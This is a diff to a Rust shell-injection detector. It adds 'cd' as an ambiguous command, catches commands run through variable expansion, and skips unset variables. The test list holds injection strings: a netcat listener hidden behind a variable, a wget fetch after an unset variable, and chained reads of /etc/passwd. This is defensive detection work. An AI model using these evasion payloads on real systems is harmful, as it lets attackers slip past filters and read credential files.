@@ -9,7 +9,7 @@
 //! sentence is prose. Backtick spans that read as markdown inline code inside prose are not
 //! separators.
 
-use super::shell_line::{glob_path, splice};
+use super::shell_line::{expansion, glob_path, splice};
 use crate::request::Location;
 
 /// Commands that are rarely English words: any clause shape counts.
@@ -82,6 +82,7 @@ const UNAMBIGUOUS: &[&str] = &[
 /// Commands that are also words of prose: they need shell-like arguments or a bare clause.
 const AMBIGUOUS: &[&str] = &[
     "cat",
+    "cd",
     "rm",
     "ps",
     "cp",
@@ -354,12 +355,25 @@ fn command_clause(rest: &str, unknown_ok: bool, strict: impl FnOnce() -> bool) -
         .find([' ', '+', '\t', ';', '|', '&', '\n', ')', '}', '`'])
         .unwrap_or(t.len());
     let raw = &t[..raw_end];
+    // `$a -nlvp 555` (after `a=nc`): a variable run as the command, with an option.
+    if expansion(raw)
+        && t[raw_end..]
+            .trim_start_matches([' ', '+', '\t'])
+            .strip_prefix('-')
+            .is_some_and(|o| o.starts_with(|c: char| c.is_ascii_alphabetic()))
+    {
+        return true;
+    }
     if raw.len() > word.len() {
         let spliced = splice(raw);
         if (spliced != raw && first_word(&spliced) == spliced && is_command(&spliced, true))
             || glob_path(raw)
         {
             return true;
+        }
+        // An unset variable before the command (`|$u wget x`) expands to nothing.
+        if spliced.is_empty() && raw_end < t.len() && t.as_bytes()[raw_end] == b' ' {
+            return command_clause(&t[raw_end..], unknown_ok, strict);
         }
     }
     if word.is_empty() {
@@ -532,6 +546,9 @@ mod tests {
             "www.example.com;/bin/ca? /et*/passwd",
             "x;/???/?s -la",
             "`cat /etc/passwd`",
+            "a=nc&&$a -nlvp 555",
+            "x|$u wget http://example.com/a",
+            "x;cd /;cat passwd",
         ];
         for a in attacks {
             assert!(chained_command(a, l) || substitution(a, l), "missed {a:?}");
